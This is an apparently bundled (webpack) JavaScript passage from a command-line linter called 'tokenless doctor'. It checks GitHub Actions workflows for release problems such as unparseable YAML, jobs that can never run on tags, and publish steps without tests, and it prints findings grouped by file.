export const id = 721;
export const ids = [721];
export const modules = {

/***/ 91840:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   O: () => (/* binding */ countBySeverity),
/* harmony export */   j: () => (/* binding */ runDoctor)
/* harmony export */ });
/* harmony import */ var _release_facts_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(11467);
/* harmony import */ var _rule_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(49624);
/* harmony import */ var _rules_index_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(78711);
// Runs the chosen rules over a repository, adds the findings about the files themselves (YAML
// errors, ignore comments), applies `# tokenless-ignore:` and sorts what is left.




function countBySeverity(findings) {
    const counts = { error: 0, warning: 0, note: 0 };
    for (const finding of findings)
        counts[finding.severity]++;
    return counts;
}
function runDoctor(repository, rules = _rules_index_js__WEBPACK_IMPORTED_MODULE_1__/* .RULES */ .y) {
    const facts = new _release_facts_js__WEBPACK_IMPORTED_MODULE_0__/* .ReleaseFacts */ .z(repository);
    const raw = [];
    const failures = [];
    const selected = new Set(rules.map((rule) => rule.id));
    for (const rule of rules) {
        const report = (node, message, options = {}) => {
            raw.push({
                rule: rule.id,
                severity: options.severity ?? rule.severity,
                file: node.file,
                position: (0,_rule_js__WEBPACK_IMPORTED_MODULE_2__/* .positionOf */ .df)(node, options),
                message,
                fix: options.fix ?? rule.fix,
            });
        };
        try {
            rule.check({ repository, facts, report });
        }
        catch (error) {
            failures.push({
                rule: rule.id,
                error: error instanceof Error ? error.message : String(error),
            });
        }
    }
    if (selected.has('invalid-yaml'))
        for (const file of repository.files)
            raw.push(...yamlErrors(file));
    if (selected.has('ignore-directive'))
        for (const file of repository.files)
            raw.push(...directiveProblems(file));
    const findings = [];
    const ignored = [];
    const seen = new Set();
    for (const finding of raw.sort(compareFindings)) {
        const key = `${finding.file.rel}:${finding.position.line}:${finding.position.column}:${finding.rule}`;
        if (seen.has(key))
            continue;
        seen.add(key);
        const directive = ignoreFor(finding);
        if (directive !== undefined)
            ignored.push({ ...finding, reason: directive });
        else
            findings.push(finding);
    }
    return { repository, rules, findings, ignored, failures };
}
/** `localeCompare`'s order, without building a collator on each call. */
const collator = new Intl.Collator();
function compareFindings(a, b) {
    return (collator.compare(a.file.rel, b.file.rel) ||
        a.position.line - b.position.line ||
        a.position.column - b.position.column ||
        collator.compare(a.rule, b.rule));
}
const invalidYamlRule = _rules_index_js__WEBPACK_IMPORTED_MODULE_1__/* .RULES */ .y.find((rule) => rule.id === 'invalid-yaml');
const ignoreDirectiveRule = _rules_index_js__WEBPACK_IMPORTED_MODULE_1__/* .RULES */ .y.find((rule) => rule.id === 'ignore-directive');
function yamlErrors(file) {
    const first = file.errors[0];
    if (!first)
        return [];
    const more = file.errors.length - 1;
    return [
        {
            rule: invalidYamlRule.id,
            severity: invalidYamlRule.severity,
            file,
            position: {
                line: first.line,
                column: first.column,
                endLine: first.line,
                endColumn: first.column,
            },
            message: `${file.rel} is not valid YAML: ${first.message}${more > 0 ? ` (and ${more} more error${more > 1 ? 's' : ''} after it)` : ''}. GitHub does not run a workflow it cannot parse: nothing in this file runs until it is fixed.`,
            fix: invalidYamlRule.fix,
        },
    ];
}
function directiveProblems(file) {
    const known = new Set(_rules_index_js__WEBPACK_IMPORTED_MODULE_1__/* .RULES */ .y.map((rule) => rule.id));
    const problems = [];
    for (const directive of file.ignores) {
        const position = {
            line: directive.line,
            column: directive.column,
            endLine: directive.line,
            endColumn: directive.column,
        };
        const unknown = directive.rules.filter((id) => !known.has(id));
        let message;
        if (directive.rules.length === 0)
            message = '`# tokenless-ignore:` names no rule, so it ignores nothing.';
        else if (unknown.length > 0)
            message = `\`# tokenless-ignore:\` names ${unknown.map((id) => `"${id}"`).join(', ')}, which ${unknown.length > 1 ? 'are not rules' : 'is not a rule'}: the finding it was meant for is still reported. Known rules: tokenless doctor --list-rules.`;
        else if (directive.reason === '')
            message = `\`# tokenless-ignore: ${directive.rules.join(', ')}\` gives no reason: say why the risk is accepted, for the next maintainer.`;
        if (message)
            problems.push({
                rule: ignoreDirectiveRule.id,
                severity: ignoreDirectiveRule.severity,
                file,
                position,
                message,
                fix: ignoreDirectiveRule.fix,
            });
    }
    return problems;
}
/** The reason of a directive that covers the finding: on its line, or alone on the lines just above. */
function ignoreFor(finding) {
    const { file, position } = finding;
    if (finding.rule === 'ignore-directive')
        return undefined;
    const covers = (line, ownLineOnly) => file.ignores.find((directive) => directive.line === line &&
        (!ownLineOnly || directive.ownLine) &&
        directive.rules.includes(finding.rule));
    const same = covers(position.line, false);
    if (same)
        return same.reason;
    for (let line = position.line - 1; line >= 1; line--) {
        const text = file.lines[line - 1]?.trim() ?? '';
        if (!text.startsWith('#'))
            break;
        const above = covers(line, true);
        if (above)
            return above.reason;
    }
    return undefined;
}


/***/ }),

/***/ 55721:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   summaryLine: () => (/* binding */ summaryLine),
/* harmony export */   v: () => (/* binding */ formatText)
/* harmony export */ });
/* harmony import */ var _analyze_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(91840);
// The terminal report: findings grouped by file, each with its line quoted and its fix, then one
// summary line with the counts.

const LABEL = { error: 'error  ', warning: 'warning', note: 'note   ' };
function formatText(result) {
    const out = [];
    const byFile = new Map();
    for (const finding of result.findings) {
        const list = byFile.get(finding.file.rel) ?? [];
        list.push(finding);
        byFile.set(finding.file.rel, list);
    }
    for (const [rel, findings] of byFile) {
        out.push(rel);
        for (const finding of findings) {
            const { line, column } = finding.position;
            out.push(`  ${line}:${column}  ${LABEL[finding.severity]}  ${finding.rule}`);
            out.push(`    ${finding.message}`);
            const source = finding.file.lines[line - 1];
            if (source !== undefined && source.trim() !== '') {
                const gutter = String(line);
                out.push(`    ${gutter} | ${source.replace(/\t/g, ' ')}`);
                out.push(`    ${' '.repeat(gutter.length)} | ${' '.repeat(Math.max(0, column - 1))}^`);
            }
            out.push(`    fix: ${finding.fix}`);
            out.push('');
        }
    }
    out.push(summaryLine(result));
    return `${out.join('\n')}\n`;
}
function summaryLine(result) {
    const counts = (0,_analyze_js__WEBPACK_IMPORTED_MODULE_0__/* .countBySeverity */ .O)(result.findings);
    const plural = (count, word) => `${count} ${word}${count === 1 ? '' : 's'}`;
    const files = result.repository.files.length;
    const ignored = result.ignored.length;
    return `tokenless doctor: ${plural(counts.error, 'error')}, ${plural(counts.warning, 'warning')}, ${plural(counts.note, 'note')} in ${plural(files, 'file')}${ignored > 0 ? ` (${ignored} ignored by tokenless-ignore)` : ''}.`;
}


/***/ }),

/***/ 37242:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   D8: () => (/* binding */ pushRunsOnTags),
/* harmony export */   Dc: () => (/* binding */ requiresTag),
/* harmony export */   Z$: () => (/* binding */ neverRuns),
/* harmony export */   oE: () => (/* binding */ runsForNoRelease)
/* harmony export */ });
/* unused harmony export canRunOnTagRef */
/* harmony import */ var _tokenless_workflow__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(27499);
/* harmony import */ var _tokenless_workflow__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(11193);
// Jobs that can never run: an `if:` that requires a tag ref (`startsWith(github.ref,
// 'refs/tags/')`) in a workflow whose triggers never give one (a push filtered on branches only,
// pull requests, schedules...).

/** Events whose runs have a branch (or pull request) ref, never a tag. */
const NEVER_TAG_EVENTS = new Set([
    'pull_request',
    'pull_request_target',
    'pull_request_review',
    'pull_request_review_comment',
    'merge_group',
    'schedule',
    'workflow_run',
    'repository_dispatch',
    'issue_comment',
    'issues',
    'discussion',
    'discussion_comment',
    'label',
    'milestone',
    'page_build',
    'public',
    'status',
    'watch',
    'fork',
    'gollum',
    'check_run',
    'check_suite',
    'branch_protection_rule',
    'delete',
]);
/** Whether a push trigger runs for tags: not when it filters on branches only. */
function pushRunsOnTags(workflow) {
    if (!workflow.events.has('push'))
        return false;
    const push = workflow.events.get('push');
    if (!push || !push.isMap())
        return true;
    const keys = new Set(push.entries().map(([key]) => key));
    if (keys.has('tags') || keys.has('tags-ignore'))
        return true;
    return !keys.has('branches') && !keys.has('branches-ignore');
}
/** Whether some trigger of the workflow can give a run whose `github.ref` is a tag. */
function canRunOnTagRef(workflow) {
    if (workflow.events.size === 0)
        return true;
    for (const event of workflow.events.keys()) {
        if (event === 'push') {
            if (pushRunsOnTags(workflow))
                return true;
        }
        else if (!NEVER_TAG_EVENTS.has(event))
            return true;
    }
    return false;
}
/** `github.ref` for `github.ref` or `github['ref']`, lower case; undefined for anything else. */
function pathOf(node) {
    if (node.kind === 'context')
        return node.name.toLowerCase();
    if (node.kind === 'index' && node.index.kind === 'literal') {
        const target = pathOf(node.target);
        const key = node.index.value;
        return target === undefined || typeof key !== 'string'
            ? undefined
            : `${target}.${key.toLowerCase()}`;
    }
    return undefined;
}
function literalText(node) {
    return node?.kind === 'literal' && typeof node.value === 'string' ? node.value : undefined;
}
/** A test that holds only on a tag ref. */
function testsTagRef(node) {
    if (node.kind === 'call') {
        const name = node.name.toLowerCase();
        const [subject, text] = [node.args[0], literalText(node.args[1])];
        if (subject === undefined || pathOf(subject) !== 'github.ref' || text === undefined)
            return false;
        if (name === 'startswith')
            return text.startsWith('refs/tags/');
        if (name === 'contains')
            return text.includes('refs/tags/');
        return false;
    }
    if (node.kind === 'compare' && node.operator === '==') {
        for (const [left, right] of [
            [node.left, node.right],
            [node.right, node.left],
        ]) {
            const path = pathOf(left);
            const text = literalText(right);
            if (text === undefined)
                continue;
            if (path === 'github.ref_type' && text.toLowerCase() === 'tag')
                return true;
            if (path === 'github.ref' && text.startsWith('refs/tags/'))
                return true;
        }
    }
    return false;
}
/** Whether the condition holds only on a tag ref: it is such a test, or one operand of an `&&`. */
function requiresTagRef(node) {
    if (testsTagRef(node))
        return true;
    return node.kind === 'and' && node.operands.some(requiresTagRef);
}
/** The expression of an `if:`: bare, or one `${{ }}` with nothing around it. */
function conditionExpression(text) {
    const trimmed = text.trim();
    if (!trimmed.includes('${{'))
        return trimmed;
    const { found } = (0,_tokenless_workflow__WEBPACK_IMPORTED_MODULE_0__/* .scanExpressions */ .BX)(trimmed);
    const only = found[0];
    return found.length === 1 && only && only.start === 0 && only.end === trimmed.length
        ? only.expression
        : undefined;
}
/** The parsed `if:` of a job, or undefined when it has none or it does not parse. */
function jobCondition(job) {
    const text = job.if?.str();
    if (text === undefined)
        return undefined;
    const expression = conditionExpression(text);
    if (expression === undefined || expression === '')
        return undefined;
    try {
        return (0,_tokenless_workflow__WEBPACK_IMPORTED_MODULE_1__/* .parseExpression */ .YK)(expression);
    }
    catch {
        return undefined;
    }
}
/** The operands of a chain of `&&` (the node itself when it is no `&&`). */
function conjuncts(node) {
    return node.kind === 'and' ? node.operands.flatMap(conjuncts) : [node];
}
/** `path == 'text'` (either way round): the text, lower case; undefined for anything else. */
function comparedText(node, path) {
    if (node.kind !== 'compare' || node.operator !== '==')
        return undefined;
    for (const [left, right] of [
        [node.left, node.right],
        [node.right, node.left],
    ]) {
        const text = literalText(right);
        if (pathOf(left) === path && text !== undefined)
            return text.toLowerCase();
    }
    return undefined;
}
/** A test that holds only on a branch ref (`github.ref == 'refs/heads/main'`). */
function testsBranchRef(node) {
    if (node.kind === 'call' && node.name.toLowerCase() === 'startswith') {
        const [subject, text] = [node.args[0], literalText(node.args[1])];
        return (subject !== undefined && pathOf(subject) === 'github.ref' && !!text?.startsWith('refs/heads/'));
    }
    return (!!comparedText(node, 'github.ref')?.startsWith('refs/heads/') ||
        comparedText(node, 'github.ref_type') === 'branch');
}
/**
 * A job that no release starts: its `if:` requires an event that never carries one (a pull
 * request, a schedule) or a push to a branch (`github.event_name == 'push' && github.ref ==
 * 'refs/heads/main'`).
 */
function runsForNoRelease(job) {
    const node = jobCondition(job);
    if (node === undefined)
        return false;
    const parts = conjuncts(node);
    const events = parts.map((part) => comparedText(part, 'github.event_name')).filter(Boolean);
    if (events.some((event) => NEVER_TAG_EVENTS.has(event)))
        return true;
    return events.includes('push') && parts.some(testsBranchRef);
}
/** A job whose `if:` holds only on a tag ref (`startsWith(github.ref, 'refs/tags/')`). */
function requiresTag(job) {
    const node = jobCondition(job);
    return node !== undefined && requiresTagRef(node);
}
/** A job whose `if:` requires a tag ref in a workflow no trigger of which gives one. */
function neverRuns(job) {
    // Asked of the job for each of its nodes and steps by several rules: its `if:` is parsed once.
    let known = neverRunsCache.get(job);
    if (known === undefined)
        neverRunsCache.set(job, (known = readNeverRuns(job)));
    return known;
}
const neverRunsCache = new WeakMap();
function readNeverRuns(job) {
    const text = job.if?.str();
    if (text === undefined)
        return false;
    const expression = conditionExpression(text);
    if (expression === undefined || expression === '')
        return false;
    let node;
    try {
        node = (0,_tokenless_workflow__WEBPACK_IMPORTED_MODULE_1__/* .parseExpression */ .YK)(expression);
    }
    catch {
        return false;
    }
    return requiresTagRef(node) && !canRunOnTagRef(job.workflow);
}


/***/ }),

/***/ 11467:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   z: () => (/* binding */ ReleaseFacts)
/* harmony export */ });
/* harmony import */ var _tokenless_workflow__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(28154);
/* harmony import */ var _job_conditions_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(37242);
/* harmony import */ var _step_kinds_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(28314);
// What each job does for a release, worked out once and shared by the rules: which steps
// publish, tag, test, build; which jobs are test jobs; which workflows are release workflows.



class ReleaseFacts {
    repository;
    publishCache = new Map();
    tagCache = new Map();
    testCache = new Map();
    buildCache = new Map();
    versionCache = new Map();
    constructor(repository) {
        this.repository = repository;
    }
    get scripts() {
        return this.repository.packageScripts;
    }
    publishes(step) {
        let found = this.publishCache.get(step);
        if (!found)
            this.publishCache.set(step, (found = (0,_step_kinds_js__WEBPACK_IMPORTED_MODULE_1__/* .publishesOf */ .ZU)(step, this.scripts, this.repository.releaseIt)));
        return found;
    }
    tags(step) {
        let found = this.tagCache.get(step);
        if (!found)
            this.tagCache.set(step, (found = (0,_step_kinds_js__WEBPACK_IMPORTED_MODULE_1__/* .tagCreationsOf */ .SX)(step, this.scripts, this.repository.releaseIt)));
        return found;
    }
    tests(step) {
        if (!this.testCache.has(step))
            this.testCache.set(step, (0,_step_kinds_js__WEBPACK_IMPORTED_MODULE_1__/* .testsRunBy */ .G$)(step, this.scripts, this.repository.cibuildwheelTests === true));
        return this.testCache.get(step);
    }
    build(step) {
        if (!this.buildCache.has(step))
            this.buildCache.set(step, (0,_step_kinds_js__WEBPACK_IMPORTED_MODULE_1__/* .buildRunBy */ .tG)(step, this.scripts));
        return this.buildCache.get(step);
    }
    version(step) {
        if (!this.versionCache.has(step))
            this.versionCache.set(step, (0,_step_kinds_js__WEBPACK_IMPORTED_MODULE_1__/* .versionComputedBy */ .zt)(step, this.scripts));
        return this.versionCache.get(step);
    }
    /** Publishes to npm, PyPI or TestPyPI made by the job's steps (none if the job never runs). */
    jobPublishes(job) {
        if ((0,_job_conditions_js__WEBPACK_IMPORTED_MODULE_0__/* .neverRuns */ .Z$)(job))
            return [];
        return job.steps.flatMap((step) => this.publishes(step)).filter((p) => p.registry !== 'other');
    }
    jobTags(job) {
        if ((0,_job_conditions_js__WEBPACK_IMPORTED_MODULE_0__/* .neverRuns */ .Z$)(job))
            return [];
        return job.steps.flatMap((step) => this.tags(step));
    }
    /** A job that runs tests: a test step, or a call of a reusable workflow that runs them. */
    isTestJob(job, seen = new Set()) {
        if (job.steps.some((step) => this.tests(step) !== undefined))
            return true;
        const called = job.called;
        if (called && !seen.has(called)) {
            seen.add(called);
            return called.jobs.some((inner) => this.isTestJob(inner, seen));
        }
        return false;
    }
    /** A job that publishes, itself or through the reusable workflow it calls. */
    publishesAnywhere(job, seen = new Set()) {
        if (this.jobPublishes(job).length > 0)
            return true;
        const called = job.called;
        if (called && !seen.has(called)) {
            seen.add(called);
            return called.jobs.some((inner) => this.publishesAnywhere(inner, seen));
        }
        return false;
    }
    /** A workflow that publishes or creates tags or releases. */
    isReleaseWorkflow(workflow) {
        return workflow.jobs.some((job) => this.publishesAnywhere(job) || this.jobTags(job).length > 0);
    }
    publishesInWorkflow(workflow) {
        return workflow.jobs.some((job) => this.publishesAnywhere(job));
    }
    /** Whether tests run before `step` of `job`: earlier in the job, or in a job it waits for. */
    testedBefore(job, step) {
        const index = job.steps.indexOf(step);
        if (job.steps
            .slice(0, index < 0 ? job.steps.length : index)
            .some((each) => this.tests(each) !== undefined))
            return true;
        return (0,_tokenless_workflow__WEBPACK_IMPORTED_MODULE_2__/* .upstreamJobs */ .oZ)(job).some((upstream) => this.isTestJob(upstream));
    }
}


/***/ }),

/***/ 39162:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   DL: () => (/* binding */ DoctorUsageError),
/* harmony export */   KC: () => (/* binding */ discoverWorkflows),
/* harmony export */   lE: () => (/* binding */ isOwnAction),
/* harmony export */   rV: () => (/* binding */ loadRepository)
/* harmony export */ });
/* unused harmony export repositoryFiles */
/* harmony import */ var _tokenless_workflow__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(64344);
/* harmony import */ var _tokenless_workflow__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(73155);
/* harmony import */ var _tokenless_workflow__WEBPACK_IMPORTED_MODULE_5__ = __webpack_require__(28154);
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(73024);
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_fs__WEBPACK_IMPORTED_MODULE_0__);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(76760);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1___default = /*#__PURE__*/__webpack_require__.n(node_path__WEBPACK_IMPORTED_MODULE_1__);
/* harmony import */ var _step_kinds_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(28314);
// Finds the workflows under PATH, reads them, and follows what they use inside the repository:
// composite actions (`uses: ./path` or `$/path`, expanded into the job's steps) and reusable
// workflows (`uses: ./.github/workflows/x.yml`, read and linked to the calling job).




const SCRIPT_LIMIT = 256 * 1024;
/** Reads files under `root` only: a path (or symbolic link) leading outside it reads as absent. */
function repositoryFiles(root) {
    const cache = new Map();
    const listed = new Map();
    let realRoot;
    return {
        list(dir) {
            if (listed.has(dir))
                return listed.get(dir);
            let names;
            try {
                realRoot ??= (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.realpathSync)(root);
                const real = (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.realpathSync)((0,node_path__WEBPACK_IMPORTED_MODULE_1__.resolve)(root, dir));
                if ((real === realRoot || real.startsWith(realRoot + node_path__WEBPACK_IMPORTED_MODULE_1__.sep)) && (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.statSync)(real).isDirectory())
                    names = (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.readdirSync)(real).sort();
            }
            catch {
                names = undefined;
            }
            listed.set(dir, names);
            return names;
        },
        read(path) {
            if (cache.has(path))
                return cache.get(path);
            let text;
            try {
                // Most paths asked for are absent (a word that looks like a script): no exception then.
                const stat = (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.statSync)((0,node_path__WEBPACK_IMPORTED_MODULE_1__.resolve)(root, path), { throwIfNoEntry: false });
                realRoot ??= (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.realpathSync)(root);
                const real = stat?.isFile() && stat.size <= SCRIPT_LIMIT && (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.realpathSync)((0,node_path__WEBPACK_IMPORTED_MODULE_1__.resolve)(root, path));
                if (real && real.startsWith(realRoot + node_path__WEBPACK_IMPORTED_MODULE_1__.sep))
                    text = (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.readFileSync)(real, 'utf8');
            }
            catch {
                text = undefined;
            }
            cache.set(path, text);
            return text;
        },
    };
}
class DoctorUsageError extends Error {
}
const YAML_FILE = /\.ya?ml$/;
/** The workflow files PATH names and the repository root they belong to; `shown` is PATH as typed. */
function discoverWorkflows(path, shown = path) {
    const target = (0,node_path__WEBPACK_IMPORTED_MODULE_1__.resolve)(path);
    if (!(0,node_fs__WEBPACK_IMPORTED_MODULE_0__.existsSync)(target))
        throw new DoctorUsageError(`${shown} does not exist.`);
    if ((0,node_fs__WEBPACK_IMPORTED_MODULE_0__.statSync)(target).isFile()) {
        if (!YAML_FILE.test(target))
            throw new DoctorUsageError(`${shown} is not a YAML file (.yml or .yaml).`);
        return { root: repositoryRoot((0,node_path__WEBPACK_IMPORTED_MODULE_1__.dirname)(target)), files: [target] };
    }
    const workflowsDir = (0,node_path__WEBPACK_IMPORTED_MODULE_1__.join)(target, '.github', 'workflows');
    const dir = (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.existsSync)(workflowsDir) ? workflowsDir : target;
    const files = (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.readdirSync)(dir)
        .filter((name) => YAML_FILE.test(name))
        .sort()
        .map((name) => (0,node_path__WEBPACK_IMPORTED_MODULE_1__.join)(dir, name))
        .filter((file) => (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.statSync)(file).isFile());
    if (files.length === 0) {
        throw new DoctorUsageError(`no workflows in ${shown}: looked for .yml and .yaml files in ${(0,node_path__WEBPACK_IMPORTED_MODULE_1__.join)(shown, '.github', 'workflows')} and in ${shown} itself. Give a repository, a folder of workflows, or a workflow file.`);
    }
    return { root: dir === workflowsDir ? target : repositoryRoot(target), files };
}
/** The nearest folder up from `dir` with a .github or .git, else `dir`. */
function repositoryRoot(dir) {
    const parts = dir.split(node_path__WEBPACK_IMPORTED_MODULE_1__.sep);
    const github = parts.lastIndexOf('.github');
    if (github > 0 && parts[github + 1] === 'workflows')
        return parts.slice(0, github).join(node_path__WEBPACK_IMPORTED_MODULE_1__.sep) || node_path__WEBPACK_IMPORTED_MODULE_1__.sep;
    for (let current = dir;; current = (0,node_path__WEBPACK_IMPORTED_MODULE_1__.dirname)(current)) {
        if ((0,node_fs__WEBPACK_IMPORTED_MODULE_0__.existsSync)((0,node_path__WEBPACK_IMPORTED_MODULE_1__.join)(current, '.github')) || (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.existsSync)((0,node_path__WEBPACK_IMPORTED_MODULE_1__.join)(current, '.git')))
            return current;
        if ((0,node_path__WEBPACK_IMPORTED_MODULE_1__.dirname)(current) === current)
            return dir;
    }
}
/**
 * Reads the repository's workflows; `texts` (absolute path to text) stands in for files on disk,
 * so that a fix can be checked before it is written.
 */
function loadRepository(root, paths, texts = new Map()) {
    const manifest = readManifest(root);
    const repository = {
        root,
        files: [],
        workflows: [],
        actions: [],
        missing: [],
        packageScripts: manifest.scripts,
        releaseIt: readReleaseItSettings(root, manifest.releaseIt),
        cibuildwheelTests: readsCibuildwheelTests(root),
        scriptFiles: repositoryFiles(root),
        selfNames: new Set([(0,node_path__WEBPACK_IMPORTED_MODULE_1__.basename)(root), manifest.name?.replace(/^@[^/]+\//, '')]
            .filter((name) => Boolean(name))
            .map((name) => name.toLowerCase())),
    };
    const workflowsByPath = new Map();
    const actionsByPath = new Map();
    const readSource = (path) => {
        const rel = (0,node_path__WEBPACK_IMPORTED_MODULE_1__.relative)(root, path).split(node_path__WEBPACK_IMPORTED_MODULE_1__.sep).join('/') || (0,node_path__WEBPACK_IMPORTED_MODULE_1__.basename)(path);
        const file = (0,_tokenless_workflow__WEBPACK_IMPORTED_MODULE_3__/* .parseYamlSource */ .WF)(path, rel, texts.get(path) ?? (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.readFileSync)(path, 'utf8'));
        repository.files.push(file);
        return file;
    };
    const loadAction = (ref, folder) => {
        const dir = (0,node_path__WEBPACK_IMPORTED_MODULE_1__.resolve)(root, folder);
        if (actionsByPath.has(dir))
            return actionsByPath.get(dir);
        actionsByPath.set(dir, undefined);
        const metadata = (0,_tokenless_workflow__WEBPACK_IMPORTED_MODULE_4__/* .readActionMetadata */ .Of)(dir, root);
        if (!metadata)
            return undefined;
        repository.files.push(metadata.file);
        const node = metadata.node;
        if (!node || metadata.using !== 'composite')
            return undefined;
        const action = {
            file: metadata.file,
            node,
            ref,
            steps: [],
            inputs: metadata.inputs.map(({ name, node: input }) => ({
                name,
                type: undefined,
                node: input,
            })),
        };
        actionsByPath.set(dir, action);
        repository.actions.push(action);
        action.steps = metadata.steps.map((step) => (0,_tokenless_workflow__WEBPACK_IMPORTED_MODULE_5__/* .readSourceStep */ .kE)(step, undefined, action));
        for (const step of action.steps)
            expandLocalAction(step, undefined);
        return action;
    };
    /** A step that uses `./x` or `$/x`: note the action, or that it is missing. */
    const expandLocalAction = (step, job) => {
        const ref = step.uses;
        const path = (0,_tokenless_workflow__WEBPACK_IMPORTED_MODULE_5__/* .localPath */ .$S)(ref);
        if (ref === undefined || path === undefined)
            return undefined;
        const action = loadAction(ref.replace(/\/+$/, ''), path);
        if (!action &&
            !(0,node_fs__WEBPACK_IMPORTED_MODULE_0__.existsSync)((0,node_path__WEBPACK_IMPORTED_MODULE_1__.resolve)(root, path)) &&
            ((0,_tokenless_workflow__WEBPACK_IMPORTED_MODULE_5__/* .isSelfRepositoryRef */ .g5)(ref) || !checksOutElsewhere(job)))
            repository.missing.push({ step, job, ref });
        return action;
    };
    const loadWorkflows = (path) => {
        const known = workflowsByPath.get(path);
        if (known)
            return known;
        const workflows = [];
        workflowsByPath.set(path, workflows);
        const file = readSource(path);
        (0,_step_kinds_js__WEBPACK_IMPORTED_MODULE_2__/* .setRepositoryFiles */ .cS)(file, repository.scriptFiles);
        for (const document of file.documents) {
            const workflow = (0,_tokenless_workflow__WEBPACK_IMPORTED_MODULE_5__/* .readSourceWorkflow */ .HD)(file, document);
            if (workflow)
                workflows.push(workflow);
        }
        repository.workflows.push(...workflows);
        for (const workflow of workflows) {
            for (const job of workflow.jobs) {
                job.steps = job.steps.flatMap((step) => [step, ...stepsOfAction(step, job, new Set())]);
                const uses = job.uses?.str()?.trim();
                const path = (0,_tokenless_workflow__WEBPACK_IMPORTED_MODULE_5__/* .localPath */ .$S)(uses?.split('@')[0]);
                if (uses !== undefined && path !== undefined) {
                    const called = (0,node_path__WEBPACK_IMPORTED_MODULE_1__.resolve)(root, path);
                    if ((0,node_fs__WEBPACK_IMPORTED_MODULE_0__.existsSync)(called) && (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.statSync)(called).isFile()) {
                        job.called = loadWorkflows(called)[0];
                        if (job.called && !job.called.events.has('workflow_call'))
                            repository.missing.push({ step: undefined, job, ref: uses, notReusable: true });
                    }
                    else
                        repository.missing.push({ step: undefined, job, ref: uses });
                }
            }
        }
        return workflows;
    };
    /** The steps of the local composite action `step` uses, as steps of `job` (nested ones too). */
    const stepsOfAction = (step, job, seen) => {
        const action = expandLocalAction(step, job);
        if (!action || seen.has(action))
            return [];
        seen.add(action);
        return action.steps.flatMap((inner) => {
            const expanded = { ...inner, job, via: step.via ?? step };
            return [
                expanded,
                ...stepsOfAction(inner, job, seen).map((deep) => ({ ...deep, via: step.via ?? step })),
            ];
        });
    };
    for (const path of paths)
        loadWorkflows(path);
    return repository;
}
/** A job that checks out another repository or into a sub-folder: `./x` may not be ours. */
function checksOutElsewhere(job) {
    return (job?.steps.some((step) => step.uses?.startsWith('actions/checkout') &&
        (step.with?.get('repository') !== undefined || step.with?.get('path') !== undefined)) ?? false);
}
function readManifest(root) {
    try {
        const manifest = JSON.parse((0,node_fs__WEBPACK_IMPORTED_MODULE_0__.readFileSync)((0,node_path__WEBPACK_IMPORTED_MODULE_1__.join)(root, 'package.json'), 'utf8'));
        const scripts = {};
        for (const [name, value] of Object.entries(manifest.scripts ?? {}))
            if (typeof value === 'string')
                scripts[name] = value;
        return {
            name: typeof manifest.name === 'string' ? manifest.name : undefined,
            scripts,
            releaseIt: manifest['release-it'],
        };
    }
    catch {
        return { name: undefined, scripts: {}, releaseIt: undefined };
    }
}
/** release-it's settings from .release-it.json or package.json; its defaults for anything else. */
function readReleaseItSettings(root, fromManifest) {
    let config = fromManifest;
    try {
        config = JSON.parse((0,node_fs__WEBPACK_IMPORTED_MODULE_0__.readFileSync)((0,node_path__WEBPACK_IMPORTED_MODULE_1__.join)(root, '.release-it.json'), 'utf8'));
    }
    catch {
        // no .release-it.json (or not JSON): package.json's settings, if any
    }
    const section = (name) => typeof config === 'object' && config !== null
        ? config[name]
        : undefined;
    const setting = (name, key, fallback) => {
        const value = section(name);
        if (value === false)
            return false;
        if (typeof value !== 'object' || value === null)
            return fallback;
        const own = value[key];
        return typeof own === 'boolean' ? own : fallback;
    };
    return {
        npmPublish: setting('npm', 'publish', _step_kinds_js__WEBPACK_IMPORTED_MODULE_2__/* .RELEASE_IT_DEFAULTS */ .jj.npmPublish),
        gitTag: setting('git', 'tag', _step_kinds_js__WEBPACK_IMPORTED_MODULE_2__/* .RELEASE_IT_DEFAULTS */ .jj.gitTag),
        githubRelease: setting('github', 'release', _step_kinds_js__WEBPACK_IMPORTED_MODULE_2__/* .RELEASE_IT_DEFAULTS */ .jj.githubRelease),
    };
}
/**
